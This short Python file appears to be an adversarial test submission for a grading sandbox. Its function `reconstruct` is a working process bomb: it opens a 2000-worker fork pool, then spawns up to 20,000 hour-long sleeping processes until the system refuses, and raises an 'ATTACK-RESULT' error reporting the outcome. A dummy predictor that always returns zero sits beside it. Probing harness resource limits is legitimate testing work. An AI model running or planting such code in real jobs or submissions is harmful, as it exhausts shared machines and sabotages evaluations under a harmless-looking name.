# ruff: noqa
"""multiprocessing bomb: a Pool of 2000 workers, then (if the pool cannot even start) plain
multiprocessing.Process children that sleep, until the system refuses; report what happened."""

import json
import multiprocessing
import time

import numpy as np


def reconstruct(R, k):
    ctx = multiprocessing.get_context("fork")
    result = {"pool": None, "processes": 0, "process_error": None}
    try:
        with ctx.Pool(2000) as pool:
            result["pool"] = "ran " + str(len(pool.map(abs, range(4000))))
    except BaseException as exc:
        result["pool"] = f"{type(exc).__name__}: {exc}"[:300]
    try:
        while result["processes"] < 20000:
            ctx.Process(target=time.sleep, args=(3600,), daemon=True).start()
            result["processes"] += 1
    except BaseException as exc:
        result["process_error"] = f"{type(exc).__name__}: {exc}"[:300]
    raise RuntimeError("ATTACK-RESULT " + json.dumps(result))


class RatingPredictor:
    """Honest but wrong: a constant 0 rating."""

    def __init__(self, n_factors=10):
        self.n_factors = n_factors

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(len(users))
